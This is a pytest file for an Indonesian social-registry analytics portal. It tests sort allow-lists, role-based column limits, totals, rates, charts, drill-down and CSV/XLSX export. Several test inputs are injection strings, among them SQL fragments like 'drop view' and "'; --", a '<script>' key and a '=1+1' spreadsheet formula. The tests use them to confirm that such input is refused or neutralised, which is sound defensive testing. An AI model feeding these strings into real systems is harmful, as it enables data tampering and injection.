        "kec": "3" * 10_000,
        "<script>": "x",
    }
    at = _page("jogja", link)
    assert not at.exception, at.exception
    notes = [w.value for w in at.warning]
    assert len(notes) >= 6
    assert not any(set(n) & set("<>*`") for n in notes), notes
    assert at.metric[0].value == "6"  # the whole of Kota Yogyakarta, unfiltered
    assert at.query_params == {"periode": "2026-09"}


# --- analysts' exploration: columns, sort, totals, rates, charts, drill, the data CSV ----------------------------


def _raw(register: Register, sql: str) -> pd.DataFrame:
    """The register's own rows, read without the explore queries (for answers computed independently)."""
    cursor = register._con.cursor()
    try:
        return cursor.execute(sql).df()
    finally:
        cursor.close()


@pytest.mark.parametrize("level", ["individu", "keluarga"])
@pytest.mark.parametrize("bad", ["nik", "nama; drop view individu_all", "", "NAMA", "kode_desa ", "1", "k_teks"])
def test_sort_allow_list_refuses_unknown_columns(level: str, bad: str) -> None:
    with pytest.raises(ValueError):
        explore.sort_params(level, bad)


def test_sort_keys_of_one_level_are_refused_on_the_other() -> None:
    with pytest.raises(ValueError):
        explore.sort_params("individu", "jumlah_art")
    with pytest.raises(ValueError):
        explore.sort_params("keluarga", "tanggal_lahir")
    assert explore.sort_params("individu", "usia", True) == {"urut": "usia", "turun": True}


@pytest.mark.parametrize("level", ["individu", "keluarga"])
def test_every_sort_key_sorts_server_side(register: Register, level: str) -> None:
    name = f"explore_{level}_rows"
    for key in explore.SORT_KEYS[level]:
        for turun in (False, True):
            rows = register.run(name, **NATION, batas=50, mulai=0, **explore.sort_params(level, key, turun))
            column = (
                rows[key] if key != "rt" else rows["rw"].fillna("").str.zfill(5) + rows["rt"].fillna("").str.zfill(5)
            )
            values = [v for v in column if not pd.isna(v)]
            assert values == sorted(values, reverse=turun), (key, turun)
            assert column.isna().sum() == 0 or column.iloc[-column.isna().sum() :].isna().all()  # missing last


def test_sort_pages_do_not_overlap(register: Register) -> None:
    sort = explore.sort_params("individu", "usia", True)
    pages = [register.run("explore_individu_rows", **NATION, batas=4, mulai=m, **sort) for m in (0, 4, 8)]
    ids = [i for page in pages for i in page["id_dtks"]]
    people = _raw(register, "select id_dtks, tanggal_lahir from individu_all where periode = '2026-09'")
    assert sorted(ids) == sorted(people["id_dtks"])  # every person once over the pages
    ages = [a for page in pages for a in page["usia"]]
    assert ages == sorted(ages, reverse=True)


@pytest.mark.parametrize("role", list(access.ROLES))
@pytest.mark.parametrize("level", ["individu", "keluarga"])
def test_column_choice_never_exceeds_the_roles_tier(role: str, level: str) -> None:
    allowed = set(explore.allowed_columns(role, level))
    everything = [*explore.ROW_COLUMNS["individu"], *explore.ROW_COLUMNS["keluarga"], "nama_ibu_kandung", "x'; --"]
    assert set(explore.choose_columns(role, level, everything)) <= allowed
    assert set(explore.choose_columns(role, level, None)) <= allowed
    assert "nama_ibu_kandung" not in allowed
    if role == "analis":
        assert allowed == set() and explore.choose_columns(role, level, ["nik", "nama"]) == ()
    else:
        assert set(explore.DEFAULT_COLUMNS[level]) <= allowed
        assert explore.choose_columns(role, level, ["nik", "bogus", "nama_desa"]) == tuple(
            c for c in explore.ROW_COLUMNS[level] if c in {"nik", "nama_desa"} and c in allowed
        )
    assert explore.choose_columns("bukan-peran", level, everything) == ()


def test_rows_query_returns_exactly_the_known_columns(register: Register) -> None:
    for level in ("individu", "keluarga"):
        rows = register.run(f"explore_{level}_rows", **NATION, batas=5, mulai=0, **SORT)
        assert tuple(rows.columns) == explore.ROW_COLUMNS[level]


def test_totals_row_is_the_column_sums(register: Register) -> None:
    counts = register.run("explore_individu_counts", **NATION, dim_baris="jenis_kelamin", dim_kolom="desil")
    table = explore.with_totals(explore.grouped_table(counts, "jenis_kelamin", "desil"), None)
    people = _raw(
        register,
        "select i.jenis_kelamin, k.desil from individu_all i left join keluarga_all k "
        "on k.id_keluarga = i.id_keluarga and k.periode = i.periode where i.periode = '2026-09'",
    )
    last = table.iloc[-1]
    assert last["Jenis kelamin"] == "Total"
    assert last["Total"] == len(people) == 11
    assert last["Desil 1"] == int((people["desil"] == 1).sum())
    assert last["Desil kosong"] == int(people["desil"].isna().sum())
    women = table[table["Jenis kelamin"] == "Perempuan"].iloc[0]
    assert women["Total"] == int((people["jenis_kelamin"] == "P").sum())


def test_totals_row_with_programmes_counts_everyone_once(register: Register) -> None:
    counts = register.run("explore_keluarga_counts", **NATION, dim_baris="program", dim_kolom="")
    table = explore.grouped_table(counts, "program", "")
    total = int(counts["total"].iloc[0])
    shown = explore.with_totals(table, {"Jumlah": total})
    families = _raw(register, "select * from keluarga_all where periode = '2026-09'")
    assert shown.iloc[-1].tolist() == ["Total", len(families)]
    assert table["Jumlah"].sum() > len(families)  # a plain sum would count a family twice


def _shares(frame: pd.DataFrame, column: str) -> float:
    return round(100.0 * frame[column].sum() / len(frame), 2)


def test_rates_are_computed_right(register: Register) -> None:
    run = register.run
    by_desil = run("explore_keluarga_counts", **NATION, dim_baris="status", dim_kolom="desil")
    by_program = run("explore_keluarga_counts", **NATION, dim_baris="status", dim_kolom="program")
    rates = explore.rates_table(by_desil, by_program, "status").set_index("Status")
    families = _raw(register, "select * from keluarga_all where periode = '2026-09'")
    families["aktif"] = families["status_aktif"].fillna(False).astype(bool)
    families["rendah"] = families["desil"].between(1, 4)
    for prog in ("pkh", "bpnt", "pbi_jk", "blt_dd"):
        families[prog] = families[f"prog_{prog}"].fillna(False).astype(bool)
    families["tanpa"] = ~families[["pkh", "bpnt", "pbi_jk", "blt_dd"]].any(axis=1)
    for label, part in (
        ("Aktif", families[families["aktif"]]),
        ("Nonaktif", families[~families["aktif"]]),
        ("Total", families),
    ):
        assert rates.at[label, "jumlah"] == len(part)
        assert rates.at[label, "persen_desil_1_4"] == pytest.approx(_shares(part, "rendah"))
        for prog in ("pkh", "bpnt", "pbi_jk", "blt_dd", "tanpa"):
            assert rates.at[label, f"persen_{prog}"] == pytest.approx(_shares(part, prog)), (label, prog)


def test_rates_by_programme_use_distinct_totals(register: Register) -> None:
    run = register.run
    args = {**NATION, "dim_kolom": ""}
    rates = explore.rates_table(
        run("explore_keluarga_counts", **NATION, dim_baris="program", dim_kolom="desil"),
        run("explore_keluarga_counts", **NATION, dim_baris="program", dim_kolom="program"),
        "program",
        run("explore_keluarga_counts", **{**args, "dim_baris": "desil"}),
        run("explore_keluarga_counts", **{**args, "dim_baris": "program"}),
    ).set_index("Program")
    families = _raw(register, "select * from keluarga_all where periode = '2026-09'")
    pkh = families[families["prog_pkh"].fillna(False).astype(bool)]
    assert rates.at["PKH", "jumlah"] == len(pkh) and rates.at["PKH", "persen_pkh"] == 100.0
    assert rates.at["Total", "jumlah"] == len(families)
    low = families["desil"].between(1, 4)
    assert rates.at["Total", "persen_desil_1_4"] == pytest.approx(round(100.0 * low.sum() / len(families), 2))
    with pytest.raises(ValueError):
        explore.rates_table(
            run("explore_keluarga_counts", **NATION, dim_baris="program", dim_kolom="desil"),
            run("explore_keluarga_counts", **NATION, dim_baris="program", dim_kolom="program"),
            "program",
        )


def test_bar_charts_group_stack_and_percent(register: Register) -> None:
    from portal import explore_charts

    counts = register.run("explore_individu_counts", **NATION, dim_baris="jenis_kelamin", dim_kolom="desil")
    long = explore.long_counts(counts, "jenis_kelamin", "desil")
    stacked = explore_charts.bars_figure(long, "stack", "Jumlah individu")
    assert stacked.layout.barmode == "stack" and stacked.layout.separators == ",."
    women = sum(t.x[list(t.y).index("Perempuan")] for t in stacked.data)
    assert women == 5
    percent = explore_charts.bars_figure(long, "percent", "Jumlah individu")
    for group in ("Laki-laki", "Perempuan"):
        assert sum(t.x[list(t.y).index(group)] for t in percent.data) == pytest.approx(100.0)
    grouped = explore_charts.bars_figure(long, "group", "Jumlah individu")
    assert grouped.layout.barmode == "group" and [t.name for t in grouped.data][:2] == ["Desil 1", "Desil 2"]
    first = grouped.data[0]
    assert first.customdata[0][:2] == ["L", "1"]  # group keys for the drill
    with pytest.raises(ValueError):
        explore_charts.bars_figure(long, "pie", "x")
    event = {"selection": {"points": [{"customdata": ["P", "kosong", 1.0]}]}}
    assert explore_charts.clicked_group(event) == ("P", "kosong")
    assert explore_charts.clicked_group({"selection": {"points": []}}) is None


def test_lines_over_periods(register: Register) -> None:
    from portal import explore_charts

    per_period = {
        p: register.run("explore_keluarga_counts", **{**NATION, "periode": p}, dim_baris="status", dim_kolom="")
        for p in PERIODS
    }
    lines = explore.period_table(per_period, "status")
    assert sorted(set(lines["periode"])) == list(PERIODS)
    figure = explore_charts.lines_figure(lines, "Jumlah keluarga")
    assert list(figure.data[0].x) == ["Juni 2026", "September 2026"] and figure.layout.separators == ",."
    for periode in PERIODS:
        families = _raw(register, f"select status_aktif from keluarga_all where periode = '{periode}'")
        active = lines[(lines["periode"] == periode) & (lines["baris"] == "aktif")]["jumlah"].sum()
        assert active == int(families["status_aktif"].fillna(False).sum())


@pytest.mark.parametrize(
    ("dim", "key"),
    [("desil", "1"), ("desil", "kosong"), ("jenis_kelamin", "P"), ("program", "pkh"), ("status", "aktif")],
)
def test_drill_gives_the_rows_of_the_bar(register: Register, dim: str, key: str) -> None:
    spec = FilterSpec(periode="2026-09", baris=dim)
    counts = register.run("explore_individu_counts", **NATION, dim_baris=dim, dim_kolom="")
    bar = int(counts.loc[counts["baris"].astype(str) == key, "jumlah"].sum())
    drilled = explore.drill_spec(spec, dim, key)
    params = explore.query_params(drilled, "", END)
    rows = register.run("explore_individu_rows", **params, batas=50, mulai=0, **SORT)
    assert len(rows) == bar > 0


def test_drill_to_a_kecamatan_keeps_only_its_branch() -> None:
    spec = FilterSpec(periode="2026-09", prov=("34",), kab=("3471", "3402"), baris="kecamatan")
    drilled = explore.drill_spec(spec, "kecamatan", "347101")
    assert drilled.kec == ("347101",) and drilled.kab == ("3471",) and drilled.prov == ("34",)
    assert explore.chosen_regions(drilled, "") == ("347101",)
    # the analyst's scope check still applies: a kab/kota official cannot drill out of 3471
    assert explore.apply_scope(explore.drill_spec(spec, "kecamatan", "340201"), "3471").refused
    for dim, key in (("desil", "99"), ("kecamatan", "3471"), ("nik", "1"), ("status", "'; --")):
        with pytest.raises(ValueError):
            explore.drill_spec(spec, dim, key)


NUMBERS = pd.DataFrame(
    {
        "Wilayah": ["Kricak; Tegalrejo", 'Kota "Yogya"', "=1+1", "Desa, koma"],
        "Jumlah": [1234567, 0, -3, 42],
        "Persen": [10.69, 0.5, -1.25, None],
    }
)


def test_data_csv_round_trips_through_read_csv_with_semicolons() -> None:
    raw = export.data_csv(NUMBERS)
    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw.decode("utf-8-sig")
    assert text.splitlines()[0] == "Wilayah;Jumlah;Persen"  # the heading row first, no header block
    assert "10,69" in text and "1234567" in text  # decimal comma, no thousands separator
    back = pd.read_csv(io.BytesIO(raw), sep=";", decimal=",", encoding="utf-8-sig")
    assert list(back.columns) == ["Wilayah", "Jumlah", "Persen"]
    assert back["Jumlah"].tolist() == [1234567, 0, -3, 42]
    assert back["Persen"].iloc[:3].tolist() == [10.69, 0.5, -1.25] and pd.isna(back["Persen"].iloc[3])
    assert back["Wilayah"].tolist() == ["Kricak; Tegalrejo", 'Kota "Yogya"', "'=1+1", "Desa, koma"]


def test_zip_holds_the_data_and_its_keterangan() -> None:
    import zipfile

    archive = zipfile.ZipFile(io.BytesIO(export.to_zip(NUMBERS, _header())))
    assert sorted(archive.namelist()) == ["data.csv", "keterangan.txt"]
    with archive.open("data.csv") as f:
        back = pd.read_csv(f, sep=";", decimal=",", encoding="utf-8-sig")
    assert back["Jumlah"].sum() == NUMBERS["Jumlah"].sum()
    info = archive.read("keterangan.txt").decode("utf-8-sig")
    assert "Periode: September 2026 (2026-09)" in info and "Wilayah: Tegalrejo (347101)" in info
    assert "Dibuat: 23-11-2026 10:15 WIB" in info and 'sep=";"' in info


def test_xlsx_has_data_first_and_keterangan_on_its_own_sheet() -> None:
    book = openpyxl.load_workbook(io.BytesIO(export.to_xlsx_sheets(NUMBERS, _header())))
    assert book.sheetnames == ["Data", "Keterangan"]
    sheet = book["Data"]
    assert [c.value for c in sheet[1]] == ["Wilayah", "Jumlah", "Persen"]
    assert sheet["B2"].value == 1234567 and sheet["C2"].value == 10.69
    assert sheet["A4"].value == "=1+1" and sheet["A4"].data_type == "s" and sheet["A4"].quotePrefix
    info = {r[0]: r[1] for r in book["Keterangan"].iter_rows(values_only=True)}
    assert info["Periode"] == "September 2026 (2026-09)" and info["Oleh"] == "=jogja"
    back = pd.read_excel(io.BytesIO(export.to_xlsx_sheets(NUMBERS, _header())), sheet_name="Data")
    assert back["Jumlah"].tolist() == NUMBERS["Jumlah"].tolist()


def test_rows_export_has_indonesian_headings_and_words(register: Register) -> None:
    rows = register.run("explore_keluarga_rows", **NATION, batas=50, mulai=0, **SORT)
    out = explore.export_rows(rows, ("nama_kepala_keluarga", "jenis_kelamin", "status"), "keluarga")
    assert list(out.columns) == ["Nama kepala keluarga", "Jenis kelamin kepala keluarga", "Status"]
    assert set(out["Status"]) <= {"Aktif", "Nonaktif"}
    assert "kosong" not in set(out["Jenis kelamin kepala keluarga"].dropna())


def test_every_chart_kind_rates_and_map_render(env: str) -> None:
    at = _page("jogja", {"baris": "program", "kolom": "status"})
    assert not at.exception, at.exception
    for kind in ("stack", "percent", "line", "group"):
        at.radio(key="eks_grafik_jenis").set_value(kind).run()
        assert not at.exception, (kind, at.exception)
    table = at.dataframe[0].value
    # families' programmes in Kota Yogyakarta count each person once in the total row, not once per programme
    assert table.iloc[-1]["Program"] == "Total" and int(table.iloc[-1, 1:].sum()) == 6 == int(at.metric[0].value)
    at.toggle(key="eks_rasio").set_value(True).run()
    rates = at.dataframe[1].value
    assert rates.iloc[-1]["jumlah"] == 6
    at.toggle(key="eks_peta").set_value(True).run()
    assert not at.exception, at.exception
    assert any("batas wilayah belum diimpor" in i.value for i in at.info)  # the fixture has no boundaries


def test_sort_and_columns_reach_the_rows(env: str) -> None:
    at = _page("jogja", {"lihat": "baris"})
    assert not at.exception, at.exception
    at.selectbox(key="eks_urut_individu").set_value("usia").run()
    at.toggle(key="eks_turun_individu").set_value(True).run()
    rows = at.dataframe[-1].value
    assert list(rows["usia"]) == sorted(rows["usia"], reverse=True) and len(rows) == 6
    views = _audit(env, "lihat_baris")
    assert any(v.detail.get("urut") == "usia" and v.detail.get("turun") is True for v in views)


def test_a_drilled_unknown_group_is_described_in_words() -> None:
    drilled = explore.drill_spec(FilterSpec(periode="2026-09", baris="jenis_kelamin"), "jenis_kelamin", "kosong")
    assert drilled.kelamin == ("kosong",)
    assert ("Jenis kelamin", "Tidak diketahui") in explore.describe(drilled, "", {})
    assert explore.query_params(drilled, "", END)["kelamin"] == ("kosong",)
